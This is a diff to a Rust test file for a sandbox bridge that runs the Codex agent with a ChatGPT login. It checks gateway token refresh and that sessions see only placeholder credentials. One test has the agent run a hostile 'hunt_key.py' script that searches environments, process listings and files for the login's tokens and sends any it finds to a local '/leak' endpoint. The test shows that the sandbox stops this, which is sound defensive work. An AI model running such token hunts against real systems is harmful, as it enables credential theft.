@@ -840,9 +840,11 @@ impl Drop for FakeLogin {
 }
 
 /// Codex's own ChatGPT sign-in: `acp-sandbox login --agent codex --own` runs Codex's device-code login with its
-/// home in the data dir (the key stored before is deleted: one login at a time); a session given no key sees the
-/// login as its `~/.codex/auth.json` and its model requests carry the login's access token and account; `logout`
-/// deletes it, and the next prompt asks for a login again.
+/// home in the data dir (the key stored before is deleted: one login at a time); a session given no key sees
+/// placeholders of the login as its `~/.codex/auth.json`, and its model requests reach the model through the
+/// gateway with the login's access token and account. The login's access token has expired: the gateway refreshes
+/// it at the login server with the refresh token and stores the new tokens. `logout` deletes the login, and the next
+/// prompt asks for a login again.
 fn codex_signs_in_with_chatgpt(sandbox: &str, test: &str) {
     let Some(world) = World::new(&CODEX, test) else { return };
     let ws = world.workspace();
@@ -875,8 +877,9 @@ fn codex_signs_in_with_chatgpt(sandbox: &str, test: &str) {
         [
             format!(
                 "Signed in with ChatGPT: the login is kept in {} (readable by you only) and each session on this \
-                 machine sees it as its ~/.codex/auth.json, where Codex refreshes it. OPENAI_API_KEY set in the agent \
-                 server's environment wins. `acp-sandbox logout` deletes it.",
+                 machine uses it through the bridge's model gateway, which refreshes it: Codex sees placeholders as \
+                 its ~/.codex/auth.json. OPENAI_API_KEY set in the agent server's environment wins. `acp-sandbox \
+                 logout` deletes it.",
                 login.display()
             ),
             format!("Deleted the key stored before in {}: sessions use this sign-in now.", key_file.display()),
@@ -904,6 +907,12 @@ fn codex_signs_in_with_chatgpt(sandbox: &str, test: &str) {
         "{report}"
     );
 
+    // The access token expired: the gateway refreshes it before the first model request.
+    let mut expired = auth.clone();
+    let past = serde_json::json!({"exp": 1_000_000_000, "tag": "expired-access"}).to_string();
+    let part = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, text);
+    expired["tokens"]["access_token"] = Value::from(format!("{}.{}.sig", part(r#"{"alg":"none"}"#), part(&past)));
+    std::fs::write(&login, expired.to_string()).unwrap();
     let mut bridge = Bridge::start(options.clone());
     let sid = bridge.new_session(&ws);
     let answer = turn(&mut bridge, &sid, "SCENARIO:text Say hello", "text");
@@ -917,17 +926,38 @@ fn codex_signs_in_with_chatgpt(sandbox: &str, test: &str) {
     let chats = world.fake.chats("text");
     assert!(!chats.is_empty(), "no model request");
     for chat in &chats {
-        assert_eq!(chat["bearer_jwt"]["tag"], "fake-chatgpt-access-1", "not the login's access token: {chat:#}");
+        assert_eq!(chat["bearer_jwt"]["tag"], "fake-chatgpt-access-2", "not the refreshed access token: {chat:#}");
         assert_eq!(chat["headers"]["chatgpt-account-id"], "acct-fake-1", "{chat:#}");
         assert_eq!(chat["key_ok"], false, "an API key was sent: {chat:#}");
     }
-    // The session's `~/.codex/auth.json` is the login itself: a link without a sandbox, and under bubblewrap an
-    // empty mount point on the session's disk (the login was only ever in the data dir).
-    let shown = sandbox_state(&world.data, &sid).join("home/.codex/auth.json");
-    match sandbox {
-        "none" => assert_eq!(std::fs::read_link(&shown).unwrap(), login),
-        _ => assert_eq!(std::fs::read(&shown).unwrap(), b""),
+    let exchanges: Vec<Value> = std::fs::read_to_string(world.root.path().join("fake-login-requests.jsonl"))
+        .unwrap()
+        .lines()
+        .map(|line| serde_json::from_str::<Value>(line).unwrap())
+        .filter(|request| request["body"]["grant_type"] == "refresh_token")
+        .map(|request| request["body"].clone())
+        .collect();
+    assert_eq!(
+        exchanges,
+        [
+            serde_json::json!({"grant_type": "refresh_token", "refresh_token": "fake-refresh-1", "client_id": "app_EMoamEEZ73f0CkXaXp7hrann"})
+        ],
+        "the gateway refreshed the login once, and nothing else tried"
+    );
+    let stored: Value = serde_json::from_str(&std::fs::read_to_string(&login).unwrap()).unwrap();
+    assert_eq!(stored["tokens"]["refresh_token"], "fake-refresh-2", "the new tokens were not stored: {stored:#}");
+    // The session's `~/.codex/auth.json` holds placeholders: no token of the login, old or new.
+    let shown = std::fs::read_to_string(sandbox_state(&world.data, &sid).join("home/.codex/auth.json")).unwrap();
+    for token in ["fake-refresh-1", "fake-refresh-2"]
+        .into_iter()
+        .map(String::from)
+        .chain([&auth, &stored].map(|a| a["tokens"]["access_token"].as_str().unwrap().to_string()))
+        .chain([&auth, &stored].map(|a| a["tokens"]["id_token"].as_str().unwrap().to_string()))
+    {
+        assert!(!shown.contains(&token), "a token of the login is in the session's auth.json: {shown}");
     }
+    let shown: Value = serde_json::from_str(&shown).unwrap();
+    assert_eq!(shown["tokens"]["account_id"], "acct-fake-1", "{shown:#}");
 
     let logout = Command::new(bridge_bin())
         .args(["logout", "--agent", "codex", "--data-dir"])
@@ -944,6 +974,73 @@ fn codex_signs_in_with_chatgpt(sandbox: &str, test: &str) {
             assert_eq!((error.code, error.data.unwrap()["variable"].clone()), (-32000, "OPENAI_API_KEY".into()))
         }
         other => bridge.fail(&format!("a prompt after the logout was answered {other:?}")),
+    }
+}
+
+/// The model gateway with Codex's ChatGPT login: a hostile tool Codex runs hunts for the login's tokens (access,
+/// refresh, id) in its environment, every process's environment and command line it sees and the files it can read,
+/// and finds none, while the fake model gets the login's access token on every request and the turn works.
+fn codex_keeps_the_chatgpt_login_out(sandbox: &str, test: &str) {
+    let Some(world) = World::new(&CODEX, test) else { return };
+    let ws = world.workspace();
+    let login_server = FakeLogin::start(world.root.path());
+    let options = world
+        .options(&CODEX, sandbox)
+        .without_env(CODEX.key_env)
+        .env("ACP_SANDBOX_CODEX_ISSUER", &format!("http://127.0.0.1:{}", login_server.port));
+    let signed_in = Command::new(bridge_bin())
+        .args(["login", "--agent", "codex", "--own", "--data-dir"])
+        .arg(&world.data)
+        .envs(options.env.iter().map(|(key, value)| (key, value)))
+        .env_remove(CODEX.key_env)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(signed_in.status.success(), "login --own: {}", String::from_utf8_lossy(&signed_in.stderr));
+    let login: Value =
+        serde_json::from_str(&std::fs::read_to_string(world.data.join("logins/codex/auth.json")).unwrap()).unwrap();
+    let tokens: Vec<String> = ["access_token", "refresh_token", "id_token"]
+        .map(|name| login["tokens"][name].as_str().unwrap().to_string())
+        .to_vec();
+    let needles: Vec<String> = tokens.iter().map(|t| t.bytes().map(|b| format!("{b:02x}")).collect()).collect();
+    std::fs::copy(fakes_dir().join("hunt_key.py"), ws.join("hunt_key.py")).unwrap();
+    let mode = if sandbox == "none" { "tree" } else { "all" };
+    let leak = format!("http://127.0.0.1:{}/leak", world.fake.port);
+    let script = format!("exec python3 hunt_key.py {} {mode} {leak} CODEX_HOME > hunt.txt 2>&1\n", needles.join(","));
+    std::fs::write(ws.join("hunt.sh"), script).unwrap();
+    let mut bridge = Bridge::start(options);
+    let sid = bridge.new_session(&ws);
+    bridge.permission_answer = Some("allow_once".into());
+    let hunt = turn(&mut bridge, &sid, "SCENARIO:hunt Run the hunt", "hunt");
+    assert_end_turn(&bridge, &hunt);
+    let report =
+        std::fs::read_to_string(ws.join("hunt.txt")).unwrap_or_else(|e| bridge.fail(&format!("no hunt.txt: {e}")));
+    // The login has no variable of its own: only what was found counts.
+    let lines: Vec<&str> =
+        report.lines().filter(|line| !line.starts_with("LEAK") && !line.starts_with("PLACEHOLDER")).collect();
+    assert_eq!(lines, ["FOUND 0"], "{report}");
+    let chats = world.fake.chats("hunt");
+    assert!(chats.len() >= 2, "the fake saw both steps: {chats:#?}");
+    for chat in &chats {
+        assert_eq!(chat["bearer_jwt"]["tag"], "fake-chatgpt-access-1", "not the login's access token: {chat:#}");
+        assert_eq!(chat["headers"]["chatgpt-account-id"], "acct-fake-1", "{chat:#}");
+    }
+    bridge.close_stdin();
+    bridge.wait_exit(Duration::from_secs(20));
+    for token in &tokens {
+        assert!(!bridge.stderr().contains(token.as_str()), "a token of the login is in the bridge's log");
+    }
+}
+
+#[test]
+fn codex_keeps_the_chatgpt_login_out_none() {
+    codex_keeps_the_chatgpt_login_out("none", "codex_keeps_the_chatgpt_login_out_none");
+}
+
+#[test]
+fn codex_keeps_the_chatgpt_login_out_bwrap() {
+    if bwrap_ok("codex_keeps_the_chatgpt_login_out_bwrap") {
+        codex_keeps_the_chatgpt_login_out("bwrap", "codex_keeps_the_chatgpt_login_out_bwrap");
     }
 }
 
